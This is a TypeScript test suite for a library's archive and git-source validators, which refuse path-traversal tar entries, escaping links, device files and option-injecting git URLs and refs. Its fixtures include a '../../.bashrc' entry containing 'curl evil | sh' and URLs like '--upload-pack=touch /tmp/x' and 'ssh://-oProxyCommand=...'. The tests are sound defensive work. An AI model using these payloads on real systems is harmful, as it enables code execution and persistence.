import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, sep } from 'node:path';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { Header, create, type HeaderData } from 'tar';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  LaunchSpec,
  SourceRefusedError,
  assertSafeArchive,
  assertSafeGitRef,
  assertSafeGitUrl,
  entryEscapes,
  extractArchive,
} from '@liftoff/core';

interface RawEntry {
  path: string;
  type?: HeaderData['type'];
  linkpath?: string;
  data?: string;
  mode?: number;
  uid?: number;
  gid?: number;
}

/**
 * A .tar.gz written header by header, so entries can carry paths and types that `tar.create` would never produce:
 * one 512-byte ustar header per entry, its data padded to 512 bytes, then two zero blocks.
 */
function rawTarGz(entries: RawEntry[]): Buffer {
  const blocks: Buffer[] = [];
  for (const entry of entries) {
    const data = Buffer.from(entry.data ?? '');
    const header = new Header({
      path: entry.path,
      type: entry.type ?? 'File',
      linkpath: entry.linkpath,
      size: data.length,
      mode: entry.mode ?? (entry.type === 'Directory' ? 0o755 : 0o644),
      uid: entry.uid ?? 0,
      gid: entry.gid ?? 0,
      mtime: new Date(0),
    });
    const block = Buffer.alloc(512);
    // true would mean the path needs a pax header, which this helper does not write.
    expect(header.encode(block, 0)).toBe(false);
    blocks.push(block);
    if (data.length) blocks.push(Buffer.concat([data], Math.ceil(data.length / 512) * 512));
  }
  blocks.push(Buffer.alloc(1024));
  return gzipSync(Buffer.concat(blocks));
}

/** Every path under `dir`, relative, with " -> target" for symbolic links. */
function listTree(dir: string, prefix = ''): string[] {
  return readdirSync(dir)
    .sort()
    .flatMap((name) => {
      const path = join(dir, name);
      const stat = lstatSync(path);
      if (stat.isSymbolicLink()) return [`${prefix}${name} -> ${readlinkSync(path)}`];
      if (stat.isDirectory()) return [`${prefix}${name}/`, ...listTree(path, `${prefix}${name}/`)];
      return [`${prefix}${name}`];
    });
}

let tmp: string;
beforeEach(() => {
  tmp = realpathSync(mkdtempSync(join(tmpdir(), 'liftoff-archive-')));
});
afterEach(() => {
  rmSync(tmp, { recursive: true, force: true });
});

/** Archives that must be refused as a whole, with the reason users are shown. */
const MALICIOUS: [string, RawEntry[], string][] = [
  [
    'a path starting with ".."',
    [{ path: '../evil', data: 'pwned' }],
    'Refused code archive: entry "../evil" climbs out of the archive with "..".',
  ],
  [
    'a path climbing out in the middle',
    [{ path: 'a/../../evil', data: 'pwned' }],
    'Refused code archive: entry "a/../../evil" climbs out of the archive with "..".',
  ],
  [
    'a ".." that stays inside on paper',
    [{ path: 'a/../evil', data: 'pwned' }],
    'Refused code archive: entry "a/../evil" climbs out of the archive with "..".',
  ],
  [
    'an absolute path',
    [{ path: '/etc/evil', data: 'pwned' }],
    'Refused code archive: entry "/etc/evil" has an absolute path.',
  ],
  [
    'a symbolic link pointing out',
    [{ path: 'link', type: 'SymbolicLink', linkpath: '../../outside' }],
    'Refused code archive: link "link" points outside the archive ("../../outside").',
  ],
  [
    'a nested symbolic link pointing one level too high',
    [{ path: 'a/b/link', type: 'SymbolicLink', linkpath: '../../../outside' }],
    'Refused code archive: link "a/b/link" points outside the archive ("../../../outside").',
  ],
  [
    'a symbolic link with an absolute target',
    [{ path: 'link', type: 'SymbolicLink', linkpath: '/etc/passwd' }],
    'Refused code archive: link "link" points to the absolute path "/etc/passwd".',
  ],
  [
    'a symbolic link leaving through another link ("y" -> ".", "x" -> "y/..")',
    [
      { path: 'y', type: 'SymbolicLink', linkpath: '.' },
      { path: 'x', type: 'SymbolicLink', linkpath: 'y/..' },
    ],
    'Refused code archive: link "x" has ".." after a name in its target ("y/.."), which can lead out through another link.',
  ],
  [
    'a hard link pointing out',
    [{ path: 'hard', type: 'Link', linkpath: '../outside' }],
    'Refused code archive: link "hard" points outside the archive ("../outside").',
  ],
  [
    'a character device',
    [{ path: 'dev/null', type: 'CharacterDevice' }],
    'Refused code archive: entry "dev/null" is a CharacterDevice, which code archives may not contain.',
  ],
  [
    'a block device',
    [{ path: 'disk', type: 'BlockDevice' }],
    'Refused code archive: entry "disk" is a BlockDevice, which code archives may not contain.',
  ],
  [
    'a FIFO',
    [{ path: 'pipe', type: 'FIFO' }],
    'Refused code archive: entry "pipe" is a FIFO, which code archives may not contain.',
  ],
  [
    'one bad entry after good ones',
    [
      { path: 'src/', type: 'Directory' },
      { path: 'src/train.py', data: 'print(1)\n' },
      { path: '../../.bashrc', data: 'curl evil | sh\n' },
    ],
    'Refused code archive: entry "../../.bashrc" climbs out of the archive with "..".',
  ],
];

describe('assertSafeArchive', () => {
  it.each(MALICIOUS)('refuses %s', async (_name, entries, message) => {
    const refusal = assertSafeArchive(rawTarGz(entries));
    await expect(refusal).rejects.toBeInstanceOf(SourceRefusedError);
    await expect(assertSafeArchive(rawTarGz(entries))).rejects.toThrow(message);
  });

  it('accepts a hand-written archive whose entries stay inside (so the refusals above are not the encoder)', async () => {
    const data = rawTarGz([
      { path: 'src/', type: 'Directory' },
      { path: 'src/train.py', data: 'print(1)\n' },
      { path: 'src/lib/', type: 'Directory' },
      { path: 'src/lib/link', type: 'SymbolicLink', linkpath: '../train.py' },
      { path: 'latest', type: 'SymbolicLink', linkpath: 'src/train.py' },
      { path: 'hard', type: 'Link', linkpath: 'src/train.py' },
    ]);
    await expect(assertSafeArchive(data)).resolves.toMatchObject({ entries: 6 });
  });

  it.each<[string, Buffer]>([
    ['garbage bytes', Buffer.from('this is not an archive at all, just some text\n')],
    ['no bytes at all', Buffer.alloc(0)],
    ['gzipped text', gzipSync(Buffer.from('still not a tar archive\n'.repeat(40)))],
  ])('refuses %s as not a valid .tar.gz', async (_name, data) => {
    const refusal = assertSafeArchive(data);
    await expect(refusal).rejects.toBeInstanceOf(SourceRefusedError);
    await expect(assertSafeArchive(data)).rejects.toThrow(
      /^Refused code archive: it is not a valid \.tar\.gz \(.+\)\.$/,
    );
  });
});

describe('extractArchive', () => {
  it.each(MALICIOUS)('refuses %s and writes nothing anywhere', async (_name, entries, message) => {
    const target = join(tmp, 'runs', 'r1', 'code');
    await expect(extractArchive(rawTarGz(entries), target)).rejects.toThrow(message);
    // Not even the target directory: the archive is checked before anything is written.
    expect(listTree(tmp)).toEqual([]);
  });

  it('refuses an absolute path into a directory next to the target, and writes nothing there', async () => {
    const outside = join(tmp, 'outside');
    const target = join(tmp, 'code');
    const data = rawTarGz([{ path: join(outside, 'evil'), data: 'pwned' }]);
    await expect(extractArchive(data, target)).rejects.toBeInstanceOf(SourceRefusedError);
    expect(existsSync(join(outside, 'evil'))).toBe(false);
    expect(listTree(tmp)).toEqual([]);
  });

  it('never writes through a link placed by the same archive ("a" -> ".", "a/b" -> "..", "b/evil")', async () => {
    const target = join(tmp, 'code');
    const data = rawTarGz([
      { path: 'a', type: 'SymbolicLink', linkpath: '.' },
      { path: 'a/b', type: 'SymbolicLink', linkpath: '..' },
      { path: 'b/evil', data: 'pwned' },
      { path: 'a/b/evil2', data: 'pwned' },
    ]);
    await expect(extractArchive(data, target)).rejects.toThrow();
    expect(listTree(tmp).filter((p) => !p.startsWith('code'))).toEqual([]);
    expect(existsSync(join(tmp, 'evil'))).toBe(false);
    expect(existsSync(join(tmp, 'evil2'))).toBe(false);
  });

  it('unpacks an archive made by tar.create with its nested files, empty directories and inner links', async () => {
    const src = join(tmp, 'src');
    mkdirSync(join(src, 'pkg', 'models'), { recursive: true });
    mkdirSync(join(src, 'empty'));
    writeFileSync(join(src, 'train.py'), 'import pkg\nprint("train")\n');
    writeFileSync(join(src, 'pkg', '__init__.py'), '');
    writeFileSync(join(src, 'pkg', 'models', 'net.py'), 'class Net: ...\n');
    writeFileSync(join(src, 'requirements.txt'), 'torch==2.3\n');
    symlinkSync('pkg/models/net.py', join(src, 'net.py'));
    const file = join(tmp, 'code.tar.gz');
    await create({ gzip: true, cwd: src, file, portable: true }, ['.']);
    const data = readFileSync(file);

    await expect(assertSafeArchive(data)).resolves.toMatchObject({ entries: 9 });
    const target = join(tmp, 'out', 'code');
    await extractArchive(data, target);

    expect(listTree(target)).toEqual([
      'empty/',
      'net.py -> pkg/models/net.py',
      'pkg/',
      'pkg/__init__.py',
      'pkg/models/',
      'pkg/models/net.py',
      'requirements.txt',
      'train.py',
    ]);
    expect(readFileSync(join(target, 'train.py'), 'utf8')).toBe('import pkg\nprint("train")\n');
    expect(readFileSync(join(target, 'pkg', 'models', 'net.py'), 'utf8')).toBe('class Net: ...\n');
    expect(readFileSync(join(target, 'net.py'), 'utf8')).toBe('class Net: ...\n');
    expect(readFileSync(join(target, 'requirements.txt'), 'utf8')).toBe('torch==2.3\n');
    expect(readFileSync(join(target, 'pkg', '__init__.py'), 'utf8')).toBe('');
  });

  it('drops owners and setuid/setgid/sticky bits, and caps modes to 0644/0755 (dirs 0755)', async () => {
    const out = join(tmp, 'modes');
    await extractArchive(
      rawTarGz([
        { path: 'shared', type: 'Directory', mode: 0o1777, uid: 4242, gid: 4242 },
        { path: 'shared/su', data: '#!/bin/sh\n', mode: 0o4755, uid: 0, gid: 0 },
        { path: 'shared/sg', data: 'x', mode: 0o2711, uid: 4242, gid: 0 },
        { path: 'shared/open', data: 'x', mode: 0o666, uid: 4242, gid: 4242 },
        { path: 'shared/private', data: 'x', mode: 0o400, uid: 4242, gid: 4242 },
      ]),
      out,
    );
    const seen = (p: string) => {
      const st = lstatSync(join(out, p));
      return { mode: (st.mode & 0o7777).toString(8), uid: st.uid, gid: st.gid };
    };
    const me = { uid: process.getuid?.() ?? 0, gid: process.getgid?.() ?? 0 };
    expect(seen('shared')).toEqual({ mode: '755', ...me });
    expect(seen('shared/su')).toEqual({ mode: '755', ...me });
    expect(seen('shared/sg')).toEqual({ mode: '755', ...me });
    expect(seen('shared/open')).toEqual({ mode: '644', ...me });
    expect(seen('shared/private')).toEqual({ mode: '644', ...me });
  });

  it('refuses garbage bytes without creating the target directory', async () => {
    const target = join(tmp, 'code');
    await expect(extractArchive(Buffer.from('garbage'), target)).rejects.toThrow(
      /^Refused code archive: it is not a valid \.tar\.gz/,
    );
    expect(existsSync(target)).toBe(false);
  });
});

describe('entryEscapes (properties)', () => {
  const ENTRY_TYPES = ['File', 'OldFile', 'ContiguousFile', 'Directory', 'SymbolicLink', 'Link'] as const;
  const name = fc.stringMatching(/^[A-Za-z0-9_. -]{1,12}$/).filter((s) => s !== '..');
  const segment = fc.oneof(name, fc.constant('.'), fc.constant(''));

  it('never accepts a path with a ".." segment', () => {
    fc.assert(
      fc.property(
        fc.array(segment, { maxLength: 5 }),
        fc.array(segment, { maxLength: 5 }),
        fc.constantFrom('/', '\\'),
        fc.constantFrom(...ENTRY_TYPES),
        fc.option(name, { nil: undefined }),
        (before, after, separator, type, linkpath) => {
          const path = [...before, '..', ...after].join(separator);
          expect(entryEscapes(path, type, linkpath)).toEqual(expect.any(String));
        },
      ),
      { numRuns: 500 },
    );
  });

  it('never accepts a path starting with "/"', () => {
    fc.assert(
      fc.property(
        fc.array(segment, { maxLength: 5 }),
        fc.constantFrom(...ENTRY_TYPES),
        fc.option(name, { nil: undefined }),
        (segments, type, linkpath) => {
          const path = `/${segments.join('/')}`;
          expect(entryEscapes(path, type, linkpath)).toBe(`entry "${path}" has an absolute path`);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('accepts plain relative paths of files and directories (it does not refuse everything)', () => {
    fc.assert(
      fc.property(
        fc.array(name, { minLength: 1, maxLength: 5 }),
        fc.constantFrom('File', 'Directory'),
        (names, type) => {
          expect(entryEscapes(names.join('/'), type)).toBeUndefined();
        },
      ),
      { numRuns: 300 },
    );
  });

  it('accepts only symbolic links that, once created on disk in order, resolve inside the directory', () => {
    // Links among real directories d/ and d/e/, targets made of link names, directory names, "." and "..".
    const link = fc.record({
      dir: fc.constantFrom('', 'd'),
      name: fc.constantFrom('x', 'y'),
      target: fc.array(fc.constantFrom('x', 'y', 'd', '.', '..'), { minLength: 1, maxLength: 3 }),
    });
    fc.assert(
      fc.property(fc.array(link, { minLength: 2, maxLength: 6 }), (links) => {
        const root = realpathSync(mkdtempSync(join(tmp, 'prop-')));
        try {
          mkdirSync(join(root, 'd', 'e'), { recursive: true });
          const created: string[] = [];
          for (const { dir, name: linkName, target } of links) {
            const path = dir ? `${dir}/${linkName}` : linkName;
            if (entryEscapes(path, 'SymbolicLink', target.join('/')) !== undefined) continue;
            if (lstatSync(join(root, path), { throwIfNoEntry: false })) continue; // node-tar would replace it
            symlinkSync(target.join('/'), join(root, path));
            created.push(path);
          }
          for (const path of created) {
            let real: string;
            try {
              // The native one: Node's own realpath normalises "y/.." before resolving "y", as entryEscapes did.
              real = realpathSync.native(join(root, path));
            } catch {
              continue; // dangling or looping: it leads nowhere
            }
            expect(real === root || real.startsWith(root + sep), `${path} resolves to ${real}`).toBe(true);
          }
        } finally {
          rmSync(root, { recursive: true, force: true });
        }
      }),
      { numRuns: 300 },
    );
  });
});

describe('git sources', () => {
  it.each([
    'https://github.com/owner/repo.git',
    'https://gitlab.example.com:8443/group/sub/repo',
    'ssh://git@github.com/owner/repo.git',
    'file:///tmp/x',
    'git@github.com:o/r.git',
  ])('accepts the URL %s', (url) => {
    expect(() => assertSafeGitUrl(url)).not.toThrow();
  });

  it.each<[string, string]>([
    [
      '--upload-pack=touch /tmp/x',
      'Refused git URL "--upload-pack=touch /tmp/x": it starts with "-" and would be read as a git option.',
    ],
    ['-oProxyCommand=x', 'Refused git URL "-oProxyCommand=x": it starts with "-" and would be read as a git option.'],
    [
      'ext::sh -c touch% /tmp/pwned',
      'Refused git URL "ext::sh -c touch% /tmp/pwned": it contains whitespace or control characters.',
    ],
    [
      'ext::sh%20-c%20id',
      'Refused git URL "ext::sh%20-c%20id": only https://, ssh://, file:// and user@host:path remotes are allowed.',
    ],
    [
      '/local/path',
      'Refused git URL "/local/path": only https://, ssh://, file:// and user@host:path remotes are allowed.',
    ],
    [
      'http://insecure',
      'Refused git URL "http://insecure": only https://, ssh://, file:// and user@host:path remotes are allowed.',
    ],
    [
      'ssh://-oProxyCommand=touch%20x/r',
      'Refused git URL "ssh://-oProxyCommand=touch%20x/r": its host starts with "-" and would be read as an option.',
    ],
    [
      'git@host:--upload-pack=x',
      'Refused git URL "git@host:--upload-pack=x": its path starts with "-" and would be read as an option.',
    ],
    ['fd::17', 'Refused git URL "fd::17": only https://, ssh://, file:// and user@host:path remotes are allowed.'],
    ['https://x/y\nz', 'Refused git URL "https://x/y\nz": it contains whitespace or control characters.'],
    ['', 'Refused git URL "": only https://, ssh://, file:// and user@host:path remotes are allowed.'],
  ])('refuses the URL %j', (url, message) => {
    expect(() => assertSafeGitUrl(url)).toThrow(SourceRefusedError);
    expect(() => assertSafeGitUrl(url)).toThrow(message);
  });

  it.each(['main', 'v1.0', '0123456789abcdef0123456789abcdef01234567', 'feature/x', 'refs/heads/release-2.1'])(
    'accepts the ref %s',
    (ref) => {
      expect(() => assertSafeGitRef(ref)).not.toThrow();
    },
  );

  it.each<[string, string]>([
    ['--orphan', 'Refused git ref "--orphan": it starts with "-" and would be read as a git option.'],
    ['-b', 'Refused git ref "-b": it starts with "-" and would be read as a git option.'],
    ['a..b', 'Refused git ref "a..b": it is not a valid branch, tag or commit name.'],
    ['a b', 'Refused git ref "a b": it is not a valid branch, tag or commit name.'],
    ['main~1', 'Refused git ref "main~1": it is not a valid branch, tag or commit name.'],
    ['main@{1}', 'Refused git ref "main@{1}": it is not a valid branch, tag or commit name.'],
    ['', 'Refused git ref "": it is not a valid branch, tag or commit name.'],
  ])('refuses the ref %j', (ref, message) => {
    expect(() => assertSafeGitRef(ref)).toThrow(SourceRefusedError);
    expect(() => assertSafeGitRef(ref)).toThrow(message);
  });

  const spec = (source: unknown) => ({ source, entry_point: ['python', 'train.py'] });

  it('LaunchSpec refuses a git source whose URL is an option, with the refusal message', () => {
    const parsed = LaunchSpec.safeParse(spec({ type: 'git', url: '--upload-pack=x' }));
    expect(parsed.success).toBe(false);
    expect(parsed.error?.issues).toEqual([
      expect.objectContaining({
        path: ['source', 'url'],
        message: 'Refused git URL "--upload-pack=x": it starts with "-" and would be read as a git option.',
      }),
    ]);
  });

  it('LaunchSpec refuses a git source whose ref is an option', () => {
    const parsed = LaunchSpec.safeParse(spec({ type: 'git', url: 'https://github.com/o/r.git', ref: '--orphan' }));
    expect(parsed.error?.issues).toEqual([
      expect.objectContaining({
        path: ['source', 'ref'],
        message: 'Refused git ref "--orphan": it starts with "-" and would be read as a git option.',
      }),
    ]);
  });

  it('LaunchSpec accepts a safe git source', () => {
    const parsed = LaunchSpec.safeParse(spec({ type: 'git', url: 'git@github.com:o/r.git', ref: 'v1.0' }));
    expect(parsed.success).toBe(true);
    expect(parsed.data?.source).toEqual({ type: 'git', url: 'git@github.com:o/r.git', ref: 'v1.0' });
  });
});
